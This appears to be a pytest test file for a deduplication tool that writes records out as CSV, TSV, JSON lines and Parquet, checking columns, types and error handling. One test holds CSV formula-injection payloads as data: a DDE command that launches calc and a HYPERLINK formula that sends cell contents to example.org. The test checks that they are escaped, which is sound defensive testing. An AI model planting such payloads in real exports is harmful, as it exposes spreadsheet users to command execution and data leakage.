"""What of the rows of tables comes out again."""

import csv
import datetime
import decimal
import gzip
import io
import json
import os
from pathlib import Path
from uuid import UUID

import numpy as np
import pyarrow as pa
import pytest
from pyarrow import parquet

import simhbase
from simhbase.corpus.inputs import Inputs
from simhbase.corpus.outputs import parquet as parquet_output
from simhbase.corpus.outputs.files import KeptBeginning
from simhbase.corpus.outputs.unique import unique_file, unique_is_finished
from simhbase.errors import OutputFailed
from tests.command_line import read_lines, result, run, texts, write_lines

FIRST, SECOND = texts(2)
LOAD = ("load", "--store", "rocksdb:s.db", "--unique-only")


def written(tmp_path: Path, *options: object) -> list[dict[str, object]]:
    """The unique documents of a command, which both that write some agree about."""
    found = []
    for command in (("dedup",), LOAD):
        result(*command, "--yes", "--unique", "u.jsonl", *options, cwd=tmp_path)
        found.append(read_lines(tmp_path / "u.jsonl"))
    assert found[0] == found[1]
    return found[0]


@pytest.mark.parametrize(("name", "delimiter"), [("a.csv", ","), ("a.tsv.gz", "\t")])
def test_rows_keep_all_their_columns(tmp_path, name, delimiter):
    rows = [
        ("title", "id", "body", "n"),
        ('"a ""b""\nc"', "1", FIRST, "007"),
        ("", "2", FIRST, ""),
        ("标题", "3", SECOND, "x"),
    ]
    content = "".join(delimiter.join(row) + "\n" for row in rows).encode()
    (tmp_path / name).write_bytes(gzip.compress(content) if name.endswith("gz") else content)
    assert written(tmp_path, "--text-field", "body", name) == [
        {"title": 'a "b"\nc', "id": "1", "body": FIRST, "n": "007"},
        {"title": "标题", "id": "3", "body": SECOND, "n": "x"},
    ]


def test_the_id_that_other_files_name_is_in_its_column(tmp_path):
    (tmp_path / "a.csv").write_text(f"n,text\n1,{FIRST}\n")
    assert written(tmp_path, "--id-field", "n", "--id-prefix", "x/", "a.csv") == [{"n": "x/1", "text": FIRST}]
    (tmp_path / "a.csv").write_text(f"n,text\n1,{SECOND}\n")
    line = {"n": "1", "text": SECOND, "id": "a.csv:2"}
    assert written(tmp_path, "--id-from", "line", "a.csv") == [line]


def test_columns_of_one_name_or_none_are_told_apart(tmp_path):
    (tmp_path / "a.csv").write_text(f"id,text,note,note,,note_4\n1,{FIRST},a,b,c,d\n")
    (line,) = written(tmp_path, "a.csv")
    assert line == {"id": "1", "text": FIRST, "note": "a", "note_4": "b", "column_5": "c", "note_4_6": "d"}


def test_a_column_that_nobody_asks_for_rejects_no_row(tmp_path):
    file = tmp_path / "a.csv"
    file.write_bytes(b"id,text,note\n1," + FIRST.encode() + b",caf\xe9\n2," + SECOND.encode() + b"\xe9,\n")
    for options in ((), ("--yes", "--unique", "u.jsonl")):
        report = result("dedup", "a.csv", *options, "--rejects", "r.jsonl", cwd=tmp_path, exit_code=3)
        assert (report["unique"], report["rejected"]) == (1, 1)
        (reject,) = read_lines(tmp_path / "r.jsonl")
        assert (reject["id"], "not UTF-8" in reject["reason"]) == ("2", True)
    assert read_lines(tmp_path / "u.jsonl") == [{"id": "1", "text": FIRST, "note": "caf\\xe9"}]


def test_the_preferred_of_a_table_keeps_its_columns(tmp_path):
    (tmp_path / "a.csv").write_text(f"id,text,day\n1,{FIRST},2020\n2,{FIRST},2022\n3,{FIRST},2021\n")
    result("dedup", "--keep", "newest", "--date-field", "day", "--unique", "u.jsonl", "a.csv", cwd=tmp_path)
    assert read_lines(tmp_path / "u.jsonl") == [{"id": "2", "text": FIRST, "day": "2022"}]


WHEN = datetime.datetime(2020, 1, 2, 3, 4, 5)


def typed_table() -> pa.Table:
    """Two rows of values of many types."""
    nested = pa.struct([("url", pa.string()), ("seen", pa.timestamp("ns"))])
    return pa.table(
        {
            "id": [7, 8],
            "content": pa.array([{"body": FIRST, "lang": "en"}, {"body": SECOND, "lang": None}]),
            "when": pa.array([WHEN, None], pa.timestamp("ns")),
            "price": [decimal.Decimal("1.50"), None],
            "score": [0.25, float("nan")],
            "large": [2**62, None],
            "good": [True, None],
            "tags": [["a", "b"], []],
            "links": pa.array([[{"url": "u", "seen": WHEN}], None], pa.list_(nested)),
            "counts": pa.array([[("a", 1)], None], pa.map_(pa.string(), pa.int64())),
            "bytes": [b"\xff", b"ok"],
            "kind": pa.array(["x", "x"]).dictionary_encode(),
        }
    )


def test_values_of_parquet_keep_what_json_has_of_their_types(tmp_path):
    parquet.write_table(typed_table(), tmp_path / "a.parquet")
    first, second = written(tmp_path, "--text-field", "content.body", "a.parquet")
    assert first == {
        "id": 7,
        "content": {"body": FIRST, "lang": "en"},
        "when": "2020-01-02 03:04:05.000000000",
        "price": "1.50",
        "score": 0.25,
        "large": 2**62,
        "good": True,
        "tags": ["a", "b"],
        "links": [{"url": "u", "seen": "2020-01-02 03:04:05.000000000"}],
        "counts": [["a", 1]],
        "bytes": "\\xff",
        "kind": "x",
    }
    assert {name: value for name, value in second.items() if value is not None} == {
        "id": 8,
        "tags": [],
        "bytes": "ok",
        "kind": "x",
        "content": {"body": SECOND, "lang": None},
    }


def test_a_damaged_text_of_parquet_is_rejected_also_where_rows_are_written(tmp_path):
    table = pa.table({"id": ["1", "2"], "text": pa.array([b"\xff\xff", SECOND.encode()], pa.binary())})
    parquet.write_table(table, tmp_path / "a.parquet")
    done = run("dedup", "--yes", "--unique", "u.jsonl", "a.parquet", cwd=tmp_path)
    assert done.returncode == 3
    assert b"id 1: not UTF-8" in done.stderr
    assert read_lines(tmp_path / "u.jsonl") == [{"id": "2", "text": SECOND}]


def test_a_load_that_is_run_again_after_another_column_has_changed_begins_anew(tmp_path):
    rows = [f"{number},{text},old\n" for number, text in enumerate(texts(30))]
    (tmp_path / "a.csv").write_text("id,text,note\n" + "".join(rows) + "broken\n")
    command = (*LOAD, "--unique", "u.jsonl", "--max-rejects", 0, "a.csv")
    assert run(*command, cwd=tmp_path).returncode == 16
    (tmp_path / "a.csv").write_text("id,text,note\n" + "".join(rows).replace("old", "new"))
    result(*command, cwd=tmp_path)
    assert {line["note"] for line in read_lines(tmp_path / "u.jsonl")} == {"new"}


ROWS = [
    ["title", "id", "body", "n"],
    ['a "b"\r\nc;', "1", FIRST, "007"],
    ["", "2", FIRST, ""],
    ["标题\t", "3", SECOND, "1.50"],
]


@pytest.mark.parametrize(
    ("read", "delimiter", "unique", "between"),
    [("a.csv", ";", "u.csv", ";"), ("a.csv.gz", ",", "u.tsv.gz", "\t"), ("a.tsv", "\t", "u.csv", ",")],
)
def test_rows_come_out_as_rows_where_the_file_is_named_so(tmp_path, read, delimiter, unique, between):
    table = io.StringIO()
    csv.writer(table, delimiter=delimiter).writerows(ROWS)
    content = table.getvalue().encode()
    (tmp_path / read).write_bytes(gzip.compress(content) if read.endswith("gz") else content)
    options = ("--delimiter", delimiter) if delimiter == ";" else ()
    for command in (("dedup",), LOAD):
        result(*command, "--text-field", "body", "--yes", "--unique", unique, *options, read, cwd=tmp_path)
        found = (tmp_path / unique).read_bytes()
        found = gzip.decompress(found) if unique.endswith("gz") else found
        rows = csv.reader(io.StringIO(found.decode(), newline=""), delimiter=between)
        assert list(rows) == [ROWS[0], ROWS[1], ROWS[3]]


def test_json_lines_come_out_as_rows_unless_one_has_a_field_more(tmp_path):
    first = {"id": 1, "text": FIRST, "meta": {"url": "ü"}, "none": None}
    write_lines(tmp_path / "a.jsonl", [first, {"id": "2", "text": SECOND, "meta": 2.5}])
    result("dedup", "--unique", "u.csv", "a.jsonl", cwd=tmp_path)
    assert (tmp_path / "u.csv").read_text() == (
        f'id,text,meta,none\n1,{FIRST},"{{""url"": ""ü""}}",\n2,{SECOND},2.5,\n'
    )
    write_lines(tmp_path / "a.jsonl", [first, {"id": "2", "text": SECOND, "more": 1}])
    done = run("dedup", "--yes", "--unique", "u.csv", "a.jsonl", cwd=tmp_path)
    assert done.returncode == 1
    assert b"a field 'more', and u.csv has no column of that name among 'id', 'text'" in done.stderr


def test_formulas_are_texts_where_that_is_asked_for(tmp_path):
    """A spreadsheet would calculate them. Numbers are none, and the plain file has what the input has."""
    formula, name = '=HYPERLINK("http://example.org/"&A1)', "=cmd|' /C calc'!A0"
    records = [
        {"id": "-1", "text": FIRST, name: formula, "number": -5, "safe": "a=b"},
        {"id": "+2", "text": SECOND, name: "@SUM(1)", "number": None, "safe": "\t=1"},
    ]
    write_lines(tmp_path / "a.jsonl", records)
    result(*LOAD, "--escape-formulas", "--unique", "u.csv", "a.jsonl", cwd=tmp_path)
    with (tmp_path / "u.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [
            ["id", "text", f"'{name}", "number", "safe"],
            ["'-1", FIRST, f"'{formula}", "-5", "a=b"],
            ["'+2", SECOND, "'@SUM(1)", "", "'\t=1"],
        ]
    result("dedup", "--unique", "plain.csv", "a.jsonl", cwd=tmp_path)
    assert f'-1,{FIRST},"=HYPERLINK(""http' in (tmp_path / "plain.csv").read_text()


def test_a_load_whose_rows_cannot_be_written_says_what_is_stored(tmp_path):
    write_lines(tmp_path / "a.jsonl", [{"id": "1", "text": FIRST}, {"id": "2", "text": SECOND, "more": 1}])
    done = run(*LOAD, "--yes", "--unique", "u.csv", "a.jsonl", cwd=tmp_path)
    assert b"stopped after 2 documents; duplicates: 0. What was loaded is kept\n" in done.stderr
    assert b"run the same command again" not in done.stderr  # which would never help


def test_fields_that_are_nested_too_deeply_for_a_cell_are_named(tmp_path):
    deep = f'{{"id": "1", "text": "{FIRST}", "deep": {"[" * 1010 + "]" * 1010}}}'
    (tmp_path / "a.jsonl").write_text(deep + "\n")
    done = run("dedup", "--yes", "--unique", "u.csv", "a.jsonl", cwd=tmp_path)
    assert done.returncode == 1
    assert b"nested too deeply for a table" in done.stderr


@pytest.mark.parametrize("command", [("dedup",), LOAD], ids=lambda command: command[0])
@pytest.mark.parametrize(
    ("name", "written"),
    [("u.warc.gz", "WARC"), ("u.HTM", "HTML"), ("u.md", "plain text")],
)
def test_unique_documents_get_no_name_that_would_be_read_as_something_else(tmp_path, command, name, written):
    done = run(*command, "--unique", name, "missing.jsonl", cwd=tmp_path)
    assert done.returncode == 2
    assert done.stderr.decode() == (
        f"Error: --unique: {name}: JSON lines, rows (.csv, .tsv) and Parquet are written, not {written}: "
        "name it .jsonl\n"
    )
    assert not list(tmp_path.iterdir())


def test_the_newest_is_that_of_the_latest_moment_in_whatever_form(tmp_path):
    times = {
        "a": ("us", "UTC", 10),
        "b": ("us", "Asia/Shanghai", 9),
        "c": ("ms", "UTC", 11),
        "d": ("ns", None, 8),
    }
    for name, (unit, zone, hour) in times.items():
        moment = WHEN.replace(hour=hour, tzinfo=datetime.UTC if zone else None)
        columns = {"id": [name], "text": [FIRST], "date": pa.array([moment], pa.timestamp(unit, zone))}
        parquet.write_table(pa.table(columns), tmp_path / f"{name}.parquet")
    (tmp_path / "e.csv").write_text(f"id,text,date\ne,{FIRST},2020-01-02T12:30+01:00\n")
    files = [*(f"{name}.parquet" for name in times), "e.csv"]
    for keep, kept in (("newest", "e"), ("oldest", "d"), ("date", "e")):
        result("dedup", "--keep", keep, "--yes", "--unique", "u.jsonl", *files, cwd=tmp_path)
        assert [line["id"] for line in read_lines(tmp_path / "u.jsonl")] == [kept]
    (tmp_path / "f.csv").write_text(f"id,text,date\nf,{FIRST},2020-1-3\n")
    result("dedup", "--keep", "newest", "--yes", "--unique", "u.jsonl", *files, "f.csv", cwd=tmp_path)
    assert [line["id"] for line in read_lines(tmp_path / "u.jsonl")] == ["f"]


def test_a_file_that_cannot_be_read_is_counted(tmp_path):
    write_lines(tmp_path / "a.jsonl", [{"id": "1", "text": FIRST}])
    (tmp_path / "b.parquet").write_bytes(b"PAR1 broken")
    report = result("dedup", "a.jsonl", "b.parquet", cwd=tmp_path, exit_code=3)
    assert (report["unreadable_sources"], report["rejected"]) == (1, 0)


def tables_written(tmp_path: Path, *options: object, name: str = "u.parquet") -> pa.Table:
    """The unique documents of a command as a table, which both that write some agree about."""
    found = []
    for command in (("dedup",), LOAD):
        result(*command, "--yes", "--unique", name, *options, cwd=tmp_path)
        found.append(parquet.read_table(tmp_path / name))
        assert not list(tmp_path.glob(f"{name}.*"))
    assert found[0].equals(found[1])
    return found[0]


def table_written(tmp_path: Path, *names: str) -> pa.Table:
    """The unique documents of some files as a table."""
    simhbase.dedup([tmp_path / name for name in names], unique=tmp_path / "u.parquet")
    return parquet.read_table(tmp_path / "u.parquet")


def test_of_parquet_comes_parquet_with_the_types_of_its_columns(tmp_path):
    others = {
        "day": pa.array([WHEN.date(), None], pa.date32()),
        "at": pa.array([WHEN, None], pa.timestamp("us", "Europe/Berlin")),
        "half": pa.array([0.1, None], pa.float32()),
        "largest": pa.array([2**64 - 1, None], pa.uint64()),
        "fixed": pa.array([[1, 2], None], pa.list_(pa.int8(), 2)),
        "nothing": pa.nulls(2),
    }
    given = typed_table()
    for column, values in others.items():
        given = given.append_column(column, values)
    parquet.write_table(given, tmp_path / "a.parquet")
    table = tables_written(tmp_path, "--text-field", "content.body", "a.parquet")
    texts_now = {"bytes": pa.string(), "kind": pa.string()}
    assert dict(zip(table.schema.names, table.schema.types, strict=True)) == {
        field.name: texts_now.get(field.name, field.type) for field in given.schema
    }
    as_texts = {"bytes": ["\\xff", "ok"], "score": [0.25, None]}  # JSON has no NaN
    for name in given.schema.names:
        assert table[name].to_pylist() == as_texts.get(name, given[name].to_pylist()), name


def test_a_uuid_is_its_digits_in_json_and_a_uuid_in_parquet(tmp_path):
    """Arrow casts its bytes to a text, which often is one by chance."""
    keys = pa.array([UUID(int=5).bytes, UUID(int=6).bytes], pa.uuid())
    nested = pa.StructArray.from_arrays([keys], names=["key"])
    given = pa.table({"id": keys, "text": [FIRST, SECOND], "key": keys, "nested": nested})
    parquet.write_table(given, tmp_path / "a.parquet")
    key = str(UUID(int=5))
    assert written(tmp_path, "a.parquet")[0] == {"id": key, "text": FIRST, "key": key, "nested": {"key": key}}
    assert table_written(tmp_path, "a.parquet").equals(given)


def test_a_column_whose_values_do_not_fit_its_type_has_theirs(tmp_path):
    table = pa.table({"id": [7, 8], "text": [FIRST, SECOND], "n": pa.array([1, 2], pa.int8())})
    parquet.write_table(table, tmp_path / "a.parquet")
    parquet.write_table(pa.table({"id": ["x"], "text": [texts(3)[2]], "n": [2.5]}), tmp_path / "b.parquet")
    assert tables_written(tmp_path, "--id-prefix", "p/", "a.parquet", "b.parquet").to_pydict() == {
        "id": ["p/7", "p/8", "p/x"],
        "text": [FIRST, SECOND, texts(3)[2]],
        "n": [1.0, 2.0, 2.5],
    }


def test_json_lines_come_out_as_columns_of_what_their_values_have_in_common(tmp_path):
    deep = "x"
    for _ in range(20):
        deep = [deep]
    lines = [
        {"id": "1", "text": FIRST, "n": 1, "any": 1, "big": 2**70, "o": {"a": 1}, "deep": deep, "e": {}},
        {"id": "2", "text": SECOND, "n": 2.5, "any": "ü", "big": 1, "o": {"b": "x"}, "only": True},
    ]
    write_lines(tmp_path / "a.jsonl", lines)
    table = tables_written(tmp_path, "a.jsonl")
    assert table.schema.types[2:] == [
        *(pa.float64(), pa.string(), pa.string()),
        pa.struct([("a", pa.int64()), ("b", pa.string())]),
        *(pa.string(), pa.string(), pa.bool_()),
    ]
    assert table.to_pylist() == [
        lines[0]
        | {
            "n": 1.0,
            "any": "1",
            "big": str(2**70),
            "o": {"a": 1, "b": None},
            "deep": "[" * 20 + '"x"' + "]" * 20,
        }
        | {"e": "{}", "only": None},
        lines[1] | {"big": "1", "o": {"a": None, "b": "x"}, "deep": None, "e": None},
    ]


def test_a_table_of_no_documents_has_the_columns(tmp_path):
    table = pa.table({"id": ["1"], "text": [FIRST], "n": pa.array([1], pa.int8())})
    parquet.write_table(table, tmp_path / "a.parquet")
    result(*LOAD, "a.parquet", cwd=tmp_path)
    result(*LOAD, "--id-prefix", "again/", "--yes", "--unique", "u.parquet", "a.parquet", cwd=tmp_path)
    assert parquet.read_table(tmp_path / "u.parquet").equals(table.slice(0, 0))


def test_many_rows_are_written_in_groups(tmp_path, monkeypatch):
    monkeypatch.setattr(parquet_output, "BATCH_BYTES", 2000)
    monkeypatch.setattr(parquet_output, "GROUP_BYTES", 4000)
    write_lines(tmp_path / "a.jsonl", ({"id": f"{n}", "text": text} for n, text in enumerate(texts(60))))
    report = simhbase.dedup(tmp_path / "a.jsonl", unique=tmp_path / "u.parquet")
    file = parquet.ParquetFile(tmp_path / "u.parquet")
    assert file.num_row_groups > 3
    assert file.metadata.num_rows == report.unique


@pytest.mark.parametrize("command", [("dedup",), LOAD], ids=lambda command: command[0])
def test_parquet_is_not_written_where_it_could_not_be_read(tmp_path, command):
    os.mkfifo(tmp_path / "pipe.parquet")
    for name, reason in (("u.parquet.gz", "compressed within"), ("pipe.parquet", "written to plain files")):
        done = run(*command, "--unique", name, "missing.jsonl", cwd=tmp_path)
        assert done.returncode == 2
        assert done.stderr.decode().startswith(f"Error: --unique: {name}: Parquet is {reason}")


def test_a_table_that_cannot_be_made_leaves_the_lines(tmp_path, monkeypatch):
    write_lines(tmp_path / "a.jsonl", [{"id": "1", "text": FIRST}])
    (tmp_path / "u.parquet").write_bytes(b"older")
    (tmp_path / "u.parquet.made").mkdir()
    with pytest.raises(OutputFailed, match=r"cannot write .*u\.parquet"):
        simhbase.load(
            tmp_path / "a.jsonl",
            f"rocksdb:{tmp_path / 's.db'}",
            unique_only=True,
            unique=tmp_path / "u.parquet",
        )
    assert (tmp_path / "u.parquet").read_bytes() == b"older"
    assert read_lines(tmp_path / "u.parquet.part") == [{"id": "1", "text": FIRST}]


@pytest.mark.parametrize("name", ["u.parquet.made", "u.parquet.part"])
def test_what_a_table_is_made_in_is_no_input_and_no_other_output(tmp_path, name):
    (tmp_path / name).write_text(f'{{"id": "1", "text": "{FIRST}"}}\n')
    for given in (
        ("--unique", "u.parquet", name),
        ("--unique", "u.parquet", "--duplicates", name, "a.jsonl"),
    ):
        assert run("dedup", *given, cwd=tmp_path).returncode == 2
    assert (tmp_path / name).stat().st_size


def test_ids_of_both_kinds_are_those_that_other_files_name(tmp_path):
    lines = [{"id": 1, "text": FIRST}, {"id": "b", "text": SECOND}, {"id": "c", "text": SECOND}]
    write_lines(tmp_path / "a.jsonl", lines)
    assert tables_written(tmp_path, "a.jsonl")["id"].to_pylist() == ["1", "b"]


MAPS = pa.map_(pa.string(), pa.int64())


@pytest.mark.parametrize(
    ("kind", "values"),
    [
        (pa.struct([("t", pa.timestamp("us", "UTC"))]), [{"t": WHEN.replace(tzinfo=datetime.UTC)}, None]),
        (
            pa.list_(pa.struct([("d", pa.date32()), ("n", pa.int8())])),
            [[{"d": WHEN.date(), "n": 1}, None], None],
        ),
        (pa.struct([("s", pa.struct([("d", pa.decimal128(5, 2))]))]), [{"s": None}, None]),
        (pa.struct([("m", MAPS)]), [{"m": [("a", 1)]}, {"m": None}]),
        (pa.list_(MAPS), [[[("a", 1)], []], None]),
        (pa.map_(pa.string(), MAPS), [[("x", [("a", 1)])], None]),
        (pa.list_(pa.uint64()), [[2**64 - 1, 0], None]),
        (pa.map_(pa.string(), pa.string()), [[("en", "hello")], []]),
        (pa.large_list(pa.list_(pa.timestamp("ns"))), [[[WHEN], []], None]),
        (pa.float16(), [np.float16(0.1), None]),
        (pa.uuid(), [UUID(int=5).bytes, None]),
        (pa.bool8(), [1, None]),
    ],
    ids=str,
)
def test_types_of_parquet_come_back_wherever_they_are(tmp_path, kind, values):
    given = pa.table({"id": ["1", "2"], "text": [FIRST, SECOND], "v": pa.array(values, kind)})
    parquet.write_table(given, tmp_path / "a.parquet")
    given = parquet.read_table(tmp_path / "a.parquet")
    assert table_written(tmp_path, "a.parquet")["v"].equals(given["v"])


@pytest.mark.parametrize(
    ("kind", "other", "written"),
    [
        (pa.map_(pa.string(), pa.string()), {"en": "hello"}, [None, {"en": "hello"}]),
        (pa.map_(pa.string(), pa.string()), ["en", "de"], [None, ["en", "de"]]),
        (pa.float32(), 0.1, [None, 0.1]),
        (pa.float32(), 1e300, [None, 1e300]),
        (pa.struct([("a", pa.float32())]), {"a": 0.1}, [None, {"a": 0.1}]),
        (pa.float64(), True, [None, True]),
        (pa.int8(), 2.5, [None, 2.5]),
        (pa.list_(pa.int8()), [2.5], [None, [2.5]]),
        (pa.int8(), 1000, [None, 1000]),
        (pa.uint64(), 1.5, [None, 1.5]),
        (pa.timestamp("us"), "2020-01-02", [None, "2020-01-02"]),
        (pa.struct([("a", pa.int64())]), {"b": 1}, [None, {"b": 1}]),
    ],
    ids=str,
)
def test_values_that_do_not_fit_a_type_are_not_bent(tmp_path, kind, other, written):
    given = pa.table({"id": ["1"], "text": [FIRST], "v": pa.array([None], kind)})
    parquet.write_table(given, tmp_path / "a.parquet")
    write_lines(tmp_path / "b.jsonl", [{"id": "2", "text": SECOND, "v": other}])
    assert table_written(tmp_path, "a.parquet", "b.jsonl")["v"].to_pylist() == written


@pytest.mark.parametrize("values", [[0.5, True], [True, 0.5], [1, True], [{"a": 0.5}, {"a": True}]])
def test_true_is_no_number(tmp_path, values):
    write_lines(
        tmp_path / "a.jsonl",
        (
            {"id": str(i), "text": text, "v": v}
            for i, (text, v) in enumerate(zip((FIRST, SECOND), values, strict=True))
        ),
    )
    assert table_written(tmp_path, "a.jsonl")["v"].to_pylist() == [json.dumps(value) for value in values]


def test_documents_of_very_many_fields_are_refused_at_once(tmp_path):
    contents = texts(30)
    lines = (
        {"id": f"{n}", "text": text} | {f"{n}-{i}": 1 for i in range(40)} for n, text in enumerate(contents)
    )
    write_lines(tmp_path / "a.jsonl", lines)
    for command in (("dedup",), LOAD):
        done = run(*command, "--unique", "u.parquet", "a.jsonl", cwd=tmp_path)
        assert done.returncode == 1
        assert b"more than 1,000 different fields" in done.stderr


def test_lines_that_another_run_writes_now_stay(tmp_path):
    path = tmp_path / "u.parquet"
    write_lines(tmp_path / "a.jsonl", [{"id": "1", "text": FIRST}])
    simhbase.dedup(tmp_path / "a.jsonl", unique=path)
    size, crc = map(int, parquet.read_schema(path).metadata[b"simhbase.lines"].split())
    with unique_file(path, Inputs([])) as running:
        running.write([b'{"id": "2"}'])
        assert unique_is_finished(path, KeptBeginning(size, crc))
    assert parquet.read_table(path).to_pylist() == [{"id": "2"}]
